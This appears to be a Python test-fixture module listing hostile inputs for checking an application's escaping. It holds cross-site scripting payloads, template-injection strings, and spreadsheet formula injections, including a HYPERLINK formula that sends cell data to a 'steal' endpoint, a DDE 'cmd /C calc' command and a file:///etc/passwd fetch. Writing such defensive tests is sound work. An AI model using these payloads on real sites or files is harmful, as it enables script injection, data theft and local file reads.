"""Hostile text for the tests: cross-site scripting payloads and spreadsheet formulas.

Each XSS payload is something that would run script, load something or break out of its
place in the page if it reached the HTML unescaped: script tags, event handlers, ``javascript:``
and ``data:`` URLs, attribute and element breakouts, template syntax, CSS expressions, and
encoded variants that a filter might decode once too often. Each carries a number ("xss-7") so
a failure says which one got through. None holds a NUL character: PostgreSQL refuses those.
"""

XSS_PAYLOADS = [
    # Elements that run script.
    "<script>alert('xss-1')</script>",
    "<ScRiPt >alert('xss-2')</sCrIpT >",
    "<scr<script>ipt>alert('xss-3')</scr</script>ipt>",
    "<<script>alert('xss-4');//<</script>",
    # Event handlers.
    "<img src=x onerror=alert('xss-5')>",
    "<svg onload=alert('xss-6')>",
    "<svg><script>alert('xss-7')</script></svg>",
    "<body onload=alert('xss-8')>",
    "<input autofocus onfocus=alert('xss-9')>",
    "<details open ontoggle=alert('xss-10')>",
    # Breaking out of an attribute, a text area, the title or a script block.
    "\"><script>alert('xss-11')</script>",
    "' onmouseover='alert(\"xss-12\")' x='",
    "\" autofocus onfocus=\"alert('xss-13')",
    "</textarea><script>alert('xss-14')</script>",
    "</title><script>alert('xss-15')</script>",
    "</script><script>alert('xss-16')</script>",
    "]]><script>alert('xss-17')</script><![CDATA[",
    "<!--<script>alert('xss-18')//-->",
    # URLs with a scheme that runs script or carries a document.
    "javascript:alert('xss-19')",
    "<a href=\"javascript:alert('xss-20')\">xss-20</a>",
    "<a href=\"&#106;avascript:alert('xss-21')\">xss-21</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss-22</a>',
    "<iframe src=\"javascript:alert('xss-23')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-24')</script>\"></iframe>",
    "<object data=\"javascript:alert('xss-25')\"></object>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-26\')">',
    "<form action=\"javascript:alert('xss-27')\"><button>xss-27</button></form>",
    # Styles.
    "<div style=\"width: expression(alert('xss-28'))\">xss-28</div>",
    "<style>body{background:url(\"javascript:alert('xss-29')\")}</style>",
    # Template syntax: must be shown as written, never evaluated.
    "{{ 7*7 }} {% debug %} {{ request.user.password }} ${7*7} xss-30",
    # Encoded forms: must come out exactly as typed, not decoded into markup.
    "&lt;script&gt;alert('xss-31')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('xss-32')\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert('xss-33')\uff1c/script\uff1e",
    "%3Cscript%3Ealert('xss-34')%3C/script%3E",
    # Markup that survives a naive sanitiser.
    "<math><mtext></p><script>alert('xss-35')</script></mtext></math>",
    "<img src=x:alert(alt) onerror=eval(src) alt='xss-36'>",
]

# Short payloads, for the fields that hold only a few characters (units, codes, page
# references): one of each kind (an element with a handler, both quote breakouts, a URL).
SHORT_XSS_PAYLOADS = [
    "<svg/onload=alert(37)>",
    "'\"><img src=x>38",
    '"onclick=alert(39)',
    "'onclick=alert(40)",
    "javascript:alert(41)",
    "</textarea>42<b>",
]

# Text that a spreadsheet would take for a formula if the cell were not marked as text.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click for details")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

ALL_PAYLOADS = XSS_PAYLOADS + SHORT_XSS_PAYLOADS

# Characters whose raw appearance in a page means the payload was not escaped.
MARKUP_CHARACTERS = set("<>\"'")


def network_payloads(url):
    """Markup that would make a renderer fetch ``url`` (an address with nothing public behind
    it): images, style sheets, imports, frames, objects, SVG images and fonts."""
    return [
        f'<img src="{url}/img.png">',
        f'<link rel="stylesheet" href="{url}/style.css">',
        f"<style>@import url({url}/import.css);</style>",
        f'<div style="background: url({url}/background.png)">x</div>',
        f'<iframe src="{url}/frame.html"></iframe>',
        f'<object data="{url}/object.pdf"></object>',
        f'<svg><image href="{url}/svg-image.png"/></svg>',
        f"<style>@font-face {{ font-family: x; src: url({url}/font.woff) }}</style>",
        '<img src="file:///etc/passwd">',
    ]
